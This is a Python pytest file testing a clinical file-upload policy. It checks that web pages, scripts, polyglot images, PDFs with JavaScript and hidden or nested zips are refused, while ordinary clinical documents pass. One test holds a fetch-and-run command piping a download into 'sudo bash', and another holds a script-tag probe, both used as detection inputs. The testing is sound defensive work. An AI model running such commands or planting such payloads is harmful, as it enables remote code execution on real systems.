"""Pure file rules: every case of docs/admin/file-rules.md, judged over the whole content."""

from __future__ import annotations

import pytest

from policy.file_content import inspect_content
from policy.files import CASE_SENTENCES, FilePolicy, decide_file
from policy.staff_decision import Reason
from tests import file_samples

DEFAULT_TYPES = (
    "image/*",
    "application/pdf",
    "text/plain",
    "text/csv",
    "application/msword",
    "application/vnd.openxmlformats-officedocument.*",
    "application/vnd.ms-excel",
    "audio/*",
    "video/*",
)
POLICY = FilePolicy(50 * 1024 * 1024, DEFAULT_TYPES, "Max {max_upload_mb} MB", "Not this kind of file.")
HOSTILE = file_samples.hostile()
LEGITIMATE = file_samples.legitimate()


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_active_content_is_refused_whatever_the_allowed_types(name: str) -> None:
    """Web pages, SVG, scripts, executables, archives holding them and polyglots are refused,
    even when the organisation allows every type."""
    verdict = inspect_content(HOSTILE[name])
    assert verdict.active is not None, (name, verdict)
    everything = FilePolicy(POLICY.max_bytes, ("*/*", "application/*", "text/*"), "x", "No.")
    decision = decide_file(everything, HOSTILE[name])
    assert not decision.allowed and decision.reason is Reason.UPLOAD_ACTIVE_CONTENT
    assert decision.detail == verdict.active
    sentence = CASE_SENTENCES.get(verdict.active)
    assert decision.message == (f"No. {sentence}" if sentence else "No.")


@pytest.mark.parametrize("name", sorted(LEGITIMATE))
def test_what_clinicians_send_is_accepted(name: str) -> None:
    """Photos, PDFs, Office documents, audio, video, text and CSV pass with the default types."""
    decision = decide_file(POLICY, LEGITIMATE[name])
    assert decision.allowed, (name, inspect_content(LEGITIMATE[name]))


def test_office_files_are_what_they_claim() -> None:
    """A .docx and .xlsx are recognised from their OOXML parts; a zip with the content-types
    part but no document in it is not an Office file."""
    assert inspect_content(file_samples.word_docx()).mime.endswith("wordprocessingml.document")
    assert inspect_content(file_samples.excel_xlsx()).mime.endswith("spreadsheetml.sheet")
    fake = file_samples.zipped({"[Content_Types].xml": b"<Types/>", "notes.txt": b"hello"})
    assert inspect_content(fake).active == "not-the-office-file-it-claims"


def test_a_plain_zip_is_a_type_the_organisation_decides() -> None:
    """A zip of harmless files is not active content; it is refused unless zip is allowed."""
    harmless = file_samples.zipped({"scan.pdf": file_samples.pdf(), "notes.txt": b"ok"})
    assert inspect_content(harmless).active is None
    refused = decide_file(POLICY, harmless)
    assert not refused.allowed and refused.reason is Reason.UPLOAD_TYPE
    assert decide_file(FilePolicy(POLICY.max_bytes, ("application/zip",), "x", "y"), harmless).allowed


def test_unknown_binary_is_refused_by_type() -> None:
    """Bytes that are neither a known format nor text are refused as a type not allowed."""
    decision = decide_file(POLICY, bytes(range(256)) * 4)
    assert not decision.allowed and decision.reason is Reason.UPLOAD_TYPE


def test_markup_deep_in_a_large_text_file_is_found() -> None:
    """The whole file is read: a script tag after 1 MB of text still makes it a web page."""
    data = b"line of notes\n" * 80_000 + b"<script>alert(1)</script>\n"
    assert inspect_content(data).active == "web-page-or-svg"


def test_a_zip_in_the_middle_of_a_photo_is_found() -> None:
    """A zip inside a JPEG, followed by more than zip tools' 64 KiB search window."""
    inner = file_samples.zipped({"run.exe": file_samples.MZ_EXE})
    data = file_samples.photo_jpeg() + inner + b"\x00" * 70_000
    assert inspect_content(data).active == "zip-inside-another-file"


def test_pipe_delimited_records_are_not_scripts() -> None:
    """HL7-style pipe-delimited text (initials "SH" in a field) is text, not a shell pipe."""
    data = b"MSH|^~\\&|WARD|SH|LAB\nPID|1||12345||SH|Doe^Jane\n"
    assert decide_file(POLICY, data).allowed
    assert inspect_content(b"curl -s https://x.invalid/i | sudo bash\n").active == "script"


def test_a_zip_cannot_claim_a_type_through_its_mimetype_entry() -> None:
    """Only OpenDocument types are taken from a zip's `mimetype` entry."""
    fake = file_samples.zipped({"mimetype": b"image/png", "a.txt": b"hello"})
    assert inspect_content(fake).mime == "application/zip"
    odt = file_samples.zipped(
        {"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<x/>"}
    )
    assert inspect_content(odt).mime == "application/vnd.oasis.opendocument.text"


def test_nested_zips_have_a_budget() -> None:
    """Zips inside zips are inspected up to three levels; deeper is refused."""
    deep = file_samples.zipped({"a.txt": b"x"})
    for _ in range(3):
        deep = file_samples.zipped({"inner.zip": deep})
    assert inspect_content(deep).active == "archive-holds-active-content"
    shallow = file_samples.zipped({"inner.zip": file_samples.zipped({"a.txt": b"x"})})
    assert inspect_content(shallow).active is None


@pytest.mark.parametrize(
    ("name", "case"),
    [
        ("xhtml-namespaced", "web-page-or-svg"),
        ("xhtml-default-namespace", "web-page-or-svg"),
        ("png-html-in-text-chunk", "markup-in-image-metadata"),
        ("png-html-in-compressed-text-chunk", "markup-in-image-metadata"),
        ("png-html-in-private-chunk", "markup-in-image-metadata"),
        ("png-html-after-a-chunk-claiming-too-much", "markup-in-image-metadata"),
        ("gif-js-polyglot", "image-is-also-a-script"),
        ("gif-with-html-after-trailer", "data-after-the-image"),
        ("jpeg-with-trailing-data", "data-after-the-image"),
        ("jpeg-with-html-in-comment", "markup-in-image-metadata"),
        ("jpeg-with-a-fake-picture-after-it", "markup-in-image-metadata"),
        ("pdf-with-javascript", "pdf-javascript-or-launch"),
        ("pdf-with-escaped-javascript-name", "pdf-javascript-or-launch"),
        ("pdf-with-launch-action", "pdf-javascript-or-launch"),
        ("pdf-with-javascript-in-object-stream", "pdf-javascript-or-launch"),
        ("pdf-with-html-tail", "data-after-the-document"),
        ("pdf-with-html-inside", "markup-in-document"),
    ],
)
def test_a_file_that_is_two_things_is_named_by_its_case(name: str, case: str) -> None:
    """Images and PDFs carrying a page or a script, found by walking their structure; the
    type the file shows is still reported (it is what it claims, and something more)."""
    verdict = inspect_content(HOSTILE[name])
    assert verdict.active == case, verdict


def test_a_jpeg_followed_by_whole_pictures_passes_but_not_by_anything_else() -> None:
    """Multi-Picture Format photos (a preview or depth map after the picture) are whole JPEGs;
    a video after a photo (a "motion photo") is something else."""
    assert inspect_content(file_samples.jpeg_mpf()).active is None
    motion = file_samples.photo_jpeg() + file_samples.video_mp4()
    assert inspect_content(motion).active == "data-after-the-image"
    padded = file_samples.photo_jpeg() + b"\x00" * 16
    assert inspect_content(padded).active is None
